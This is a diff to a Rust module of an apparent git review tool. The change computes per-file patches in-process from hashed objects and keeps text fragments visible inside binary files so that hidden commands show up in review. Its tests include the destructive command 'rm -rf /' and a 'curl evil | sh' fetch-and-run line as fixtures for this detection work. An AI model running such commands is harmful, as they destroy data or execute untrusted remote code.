@@ -1,11 +1,24 @@
-//! Differences between commits, as text. Nothing that the repository configures is run for them, and no attribute hides
-//! anything of them.
+//! Differences between commits, as text. Those that a reviewer decides on are made in this process, from objects that were
+//! hashed when they were read: git does not hash what it reads. Nothing that the repository configures is run for them, and
+//! no attribute hides anything of them.
 
-use super::{GitCommand, GitError, Repository};
-use crate::{message::visible, name::Oid};
+use std::fmt::Write;
+
+use git2::{DiffLineType, DiffOptions, Patch};
+
+use super::{
+    GitCommand, GitError, Repository,
+    renames::{ChangedFile, FileSide},
+};
+use crate::{
+    message::visible,
+    name::{ObjectKind, Oid},
+};
 
 /// How the part of a patch for one file begins. Every line of a file has a sign before it.
 const HEADER: &[u8] = b"diff --git ";
+/// So many characters in a row are text in a line that is not: a command that does any harm is no shorter.
+const SHORTEST_TEXT: usize = 6;
 
 /// What differs between two commits or trees.
 #[derive(Debug, Clone, Default, PartialEq, Eq)]
@@ -17,8 +30,8 @@ pub struct Difference {
 }
 
 impl Repository {
-    /// The change from one commit to another, and its paths with how much of each. What is text is told by content alone:
-    /// with `-diff` in `.gitattributes`, git would not show it.
+    /// The change from one commit to another, and its paths with how much of each, as git shows it to people. What is text is
+    /// told by content alone: with `-diff` in `.gitattributes`, git would not show it.
     pub fn diff(&self, from: Oid, to: Oid) -> Result<(String, String), GitError> {
         let command = self.git("diff-tree").args(["-r", "-M", "--text", "--no-color"]);
         let printed = command.arg("--patch-with-stat").args([from.to_string(), to.to_string()]).stdout()?;
@@ -26,25 +39,20 @@ impl Repository {
         let (stat, patch) = printed.split_at(next_header(&printed, 0).unwrap_or(printed.len()));
         let stat = String::from_utf8_lossy(stat).trim_end_matches('\n').to_owned();
         let stat = if stat.is_empty() { stat } else { stat + "\n" };
-        Ok((files_of(patch).into_iter().map(shown).collect(), stat))
+        Ok((files_of(patch).into_iter().map(|file| shown(file, "")).collect(), stat))
     }
 
-    /// The same by file, with the list of all files.
+    /// The change from one commit or tree to another by file, for a reviewer. All that is shown was hashed.
     pub fn difference(&self, from: Oid, to: Oid) -> Result<Difference, GitError> {
-        let command =
-            self.git("diff-tree").args(["-r", "-M", "--text", "--no-color", "--numstat", "--patch"]);
-        let printed = command.args([from.to_string(), to.to_string()]).stdout()?;
-        let (list, patch) = printed.split_at(next_header(&printed, 0).unwrap_or(printed.len()));
-        let list = String::from_utf8_lossy(list);
-        let line = |line: &str| {
-            let mut fields = line.splitn(3, '\t');
-            let (added, removed) = (fields.next()?, fields.next()?);
-            Some(format!("+{added} -{removed} {}", visible(fields.next()?)))
-        };
-        Ok(Difference {
-            files: files_of(patch).into_iter().map(shown).collect(),
-            list: list.lines().filter_map(line).collect(),
-        })
+        let changes = self.changes(self.tree_of(from)?, self.tree_of(to)?)?;
+        let mut difference = Difference::default();
+        for file in self.pair_renamed(changes)? {
+            let (patch, added, removed) = self.patch_of(&file)?;
+            difference.files.push(patch);
+            let name = visible(&file.name());
+            difference.list.push(format!("+{added} -{removed} {name}"));
+        }
+        Ok(difference)
     }
 
     /// Whether a path that these pathspecs name differs between two commits or trees. They count from the top.
@@ -52,6 +60,119 @@ impl Repository {
         let command = self.pin(GitCommand::reading("diff-tree", self.top())).args(["-r", "--quiet"]);
         Ok(command.args([from.to_string(), to.to_string()]).arg("--").args(paths).answer()?.is_none())
     }
+
+    /// The patch for one file, and how many lines it adds and removes.
+    fn patch_of(&self, file: &ChangedFile) -> Result<(String, usize, usize), GitError> {
+        let [old, new] = [self.text_of(file.old.as_ref())?, self.text_of(file.new.as_ref())?];
+        let mut patch = file.header().into_bytes();
+        let (mut added, mut removed) = (0, 0);
+        if old != new {
+            let side = |side: Option<&FileSide>, letter: &str| {
+                side.map_or_else(|| "/dev/null".to_owned(), |side| quoted(letter, &side.path))
+            };
+            let sides = [side(file.old.as_ref(), "a/"), side(file.new.as_ref(), "b/")];
+            patch.extend(format!("--- {}\n+++ {}\n", sides[0], sides[1]).into_bytes());
+            (added, removed) = add_hunks(&mut patch, &old, &new)?;
+        }
+        let sizes = |side: Option<&FileSide>, text: &[u8]| {
+            side.map_or_else(|| "nothing".to_owned(), |side| format!("{} bytes, {}", text.len(), side.id))
+        };
+        let facts =
+            format!(" (before: {}; now: {})", sizes(file.old.as_ref(), &old), sizes(file.new.as_ref(), &new));
+        Ok((shown(&patch, &facts), added, removed))
+    }
+
+    /// What is compared of a file. A submodule is the commit that it is at.
+    fn text_of(&self, side: Option<&FileSide>) -> Result<Vec<u8>, GitError> {
+        let Some(side) = side else { return Ok(Vec::new()) };
+        if side.mode == 0o160_000 {
+            return Ok(format!("Subproject commit {}\n", side.id).into_bytes());
+        }
+        let unknown = || GitError::Unknown(side.id.to_string(), ObjectKind::Blob.as_str());
+        self.read_object(ObjectKind::Blob, side.id)?.ok_or_else(unknown)
+    }
+}
+
+impl ChangedFile {
+    /// The lines before those that say what changed inside, as git writes them.
+    fn header(&self) -> String {
+        let path = |side: &Option<FileSide>, other: &Option<FileSide>, letter: &str| {
+            side.as_ref().or(other.as_ref()).map(|side| quoted(letter, &side.path)).unwrap_or_default()
+        };
+        let (old, new) = (path(&self.old, &self.new, "a/"), path(&self.new, &self.old, "b/"));
+        let mut text = format!("diff --git {old} {new}\n");
+        match (&self.old, &self.new) {
+            (None, Some(new)) => text += &format!("new file mode {:06o}\n", new.mode),
+            (Some(old), None) => text += &format!("deleted file mode {:06o}\n", old.mode),
+            (Some(old), Some(new)) if old.mode != new.mode => {
+                text += &format!("old mode {:06o}\nnew mode {:06o}\n", old.mode, new.mode);
+            }
+            _ => {}
+        }
+        if let (Some(old), Some(new), Some(percent)) = (&self.old, &self.new, self.similarity) {
+            let (from, to) = (quoted("", &old.path), quoted("", &new.path));
+            let _ = write!(text, "similarity index {percent}%\nrename from {from}\nrename to {to}\n");
+        }
+        let id = |side: &Option<FileSide>| {
+            side.as_ref().map_or_else(|| "0000000".to_owned(), |side| side.id.short().to_string())
+        };
+        if self.old.as_ref().map(|side| side.id) != self.new.as_ref().map(|side| side.id) {
+            let _ = writeln!(text, "index {}..{}", id(&self.old), id(&self.new));
+        }
+        text
+    }
+
+    /// Its name, and where it was before if it was renamed.
+    fn name(&self) -> String {
+        let name = |side: &FileSide| String::from_utf8_lossy(&side.path).into_owned();
+        match (&self.old, &self.new) {
+            (Some(old), Some(new)) if old.path != new.path => format!("{} => {}", name(old), name(new)),
+            (old, new) => new.as_ref().or(old.as_ref()).map(name).unwrap_or_default(),
+        }
+    }
+}
+
+/// Adds what differs between two texts, and tells how many lines were added and removed.
+fn add_hunks(patch: &mut Vec<u8>, old: &[u8], new: &[u8]) -> Result<(usize, usize), GitError> {
+    let strange = |error: git2::Error| GitError::Strange {
+        command: "diff".into(),
+        what: format!("two files could not be compared: {}", error.message()),
+    };
+    let mut options = DiffOptions::new();
+    options.force_text(true).indent_heuristic(true);
+    let mut compared = Patch::from_buffers(old, None, new, None, Some(&mut options)).map_err(strange)?;
+    let printed = compared.print(&mut |_, _, line| {
+        match line.origin_value() {
+            DiffLineType::FileHeader | DiffLineType::Binary => return true,
+            DiffLineType::Addition => patch.push(b'+'),
+            DiffLineType::Deletion => patch.push(b'-'),
+            DiffLineType::Context => patch.push(b' '),
+            _ => {}
+        }
+        patch.extend(line.content());
+        true
+    });
+    printed.map_err(strange)?;
+    let (_, added, removed) = compared.line_stats().map_err(strange)?;
+    Ok((added, removed))
+}
+
+/// A path as git writes it in a patch: in quotes if there is anything in it that could be taken for something else.
+fn quoted(letter: &str, path: &[u8]) -> String {
+    let is_plain = |c: char| !c.is_control() && !matches!(c, '"' | '\\' | '\u{fffd}');
+    let text = String::from_utf8_lossy(path);
+    if text.chars().all(is_plain) && visible(&text) == text {
+        return format!("{letter}{text}");
+    }
+    let mut quoted = format!("\"{letter}");
+    for byte in path {
+        match byte {
+            b'"' | b'\\' => quoted.extend(['\\', char::from(*byte)]),
+            b' '..=b'~' => quoted.push(char::from(*byte)),
+            other => quoted.push_str(&format!("\\{other:03o}")),
+        }
+    }
+    quoted + "\""
 }
 
 /// Where the next part begins, from `at`.
@@ -71,32 +192,31 @@ fn files_of(patch: &[u8]) -> Vec<&[u8]> {
     files
 }
 
-/// The part for one file. Where both sides are no text, it says that they differ, and shows the lines that are text: a
-/// script can have anything behind its last command.
-fn shown(file: &[u8]) -> String {
+/// The part for one file. Where both sides are no text, it says that they differ, with what else is known of them, and shows
+/// whatever is text in it: a script can have anything behind its last command.
+fn shown(file: &[u8], facts: &str) -> String {
     let text = String::from_utf8_lossy(file).replace('\0', "\u{fffd}");
     if !is_binary(file, &text) {
         return text;
     }
     let head: Vec<&str> = text.lines().take_while(|line| !line.starts_with("@@ ")).collect();
     let side = |sign: &str| head.iter().find_map(|line| line.strip_prefix(sign)).unwrap_or_default();
-    let differ = format!("Binary files {} and {} differ", side("--- "), side("+++ "));
+    let differ = format!("Binary files {} and {} differ{facts}", side("--- "), side("+++ "));
     let is_side = |line: &str| line.starts_with("--- ") || line.starts_with("+++ ");
     let kept = head.iter().copied().filter(|line| !is_side(line));
     let words: String = kept.chain([differ.as_str()]).map(|line| format!("{line}\n")).collect();
     words + &text_lines(&text)
 }
 
-/// The lines of a patch that are text, if there are any. Numbers stand for the others.
+/// The lines of a patch as far as they are text, if any of them is. Numbers stand for the others.
 fn text_lines(text: &str) -> String {
-    let is_text = |line: &str| line.len() > 1 && !line.chars().any(|c| is_odd(&c));
     let lines = || text.lines().skip_while(|line| !line.starts_with("@@ "));
-    if !lines().any(|line| !line.starts_with("@@ ") && is_text(line)) {
+    if !lines().any(|line| !line.starts_with("@@ ") && text_in(line).is_some()) {
         return String::new();
     }
     let (mut shown, mut others) = (String::new(), 0);
     for line in lines().map(Some).chain([None]) {
-        let Some(line) = line.filter(|line| is_text(line)) else {
+        let Some(line) = line.and_then(text_in) else {
             others += 1;
             continue;
         };
@@ -104,11 +224,22 @@ fn text_lines(text: &str) -> String {
             shown += &format!("[{others} lines that are no text]\n");
         }
         others = 0;
-        shown += line;
+        shown += &line;
         shown.push('\n');
     }
     // The end itself is counted, too.
     if others > 1 { shown + &format!("[{} lines that are no text]\n", others - 1) } else { shown }
+}
+
+/// What is text in a line of a patch: all of it, or what is long enough to be one. A mark stands for each part between.
+fn text_in(line: &str) -> Option<String> {
+    if !line.chars().any(|c| is_odd(&c)) {
+        return (line.len() > 1).then(|| line.to_owned());
+    }
+    let sign = line.chars().next().filter(|sign| "+- ".contains(*sign))?;
+    let parts = line[1..].split(|c| is_odd(&c)).filter(|part| part.trim().chars().count() >= SHORTEST_TEXT);
+    let parts: Vec<&str> = parts.collect();
+    (!parts.is_empty()).then(|| format!("{sign}\u{fffd}{}\u{fffd}", parts.join("\u{fffd}")))
 }
 
 /// Whether it holds a zero byte, and more than a tenth of it is no text: one such byte in a script hides nothing.
@@ -128,18 +259,31 @@ mod tests {
     fn only_what_is_mostly_no_text_is_left_out() {
         let head = "diff --git a/x b/x\nindex 1..2 100644\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n";
         let script = format!("{head}+#!/bin/sh\n+rm -rf /\n+# \0\n");
-        assert!(shown(script.as_bytes()).contains("+rm -rf /\n"));
+        assert!(shown(script.as_bytes(), "").contains("+rm -rf /\n"));
         let picture = [head.as_bytes(), b"+", &[0, 1, 2, 255].repeat(40)].concat();
-        let words = shown(&picture);
-        assert_eq!(words, "diff --git a/x b/x\nindex 1..2 100644\nBinary files a/x and b/x differ\n");
+        let words = shown(&picture, " (facts)");
+        assert_eq!(words, "diff --git a/x b/x\nindex 1..2 100644\nBinary files a/x and b/x differ (facts)\n");
         let hidden = [head.as_bytes(), b"+rm -rf /\n+", &[0, 1, 2, 255].repeat(40)].concat();
-        let words = shown(&hidden);
+        let words = shown(&hidden, "");
         assert!(words.ends_with("differ\n@@ -1 +1 @@\n+rm -rf /\n[1 lines that are no text]\n"), "{words}");
+        let marked = [head.as_bytes(), b"+curl evil | sh #\x01\n+", &[0, 1, 2, 255].repeat(40)].concat();
+        assert!(shown(&marked, "").contains("curl evil | sh #"), "{}", shown(&marked, ""));
     }
 
     #[test]
     fn the_parts_of_a_patch_are_told_by_their_first_lines() {
         let patch = b"diff --git a/x b/x\n+diff --git a/y b/y\ndiff --git a/z b/z\n";
         assert_eq!(files_of(patch).len(), 2);
+    }
+
+    #[test]
+    fn a_patch_says_what_git_says() {
+        let mut patch = Vec::new();
+        let stats = add_hunks(&mut patch, b"a\nb\nc", b"a\nx\nc\n").unwrap();
+        assert_eq!(stats, (2, 2));
+        let text = String::from_utf8(patch).unwrap();
+        assert_eq!(text, "@@ -1,3 +1,3 @@\n a\n-b\n-c\n\\ No newline at end of file\n+x\n+c\n");
+        assert_eq!(quoted("a/", b"b c"), "a/b c");
+        assert_eq!(quoted("a/", b"b\n\xff"), "\"a/b\\012\\377\"");
     }
 }
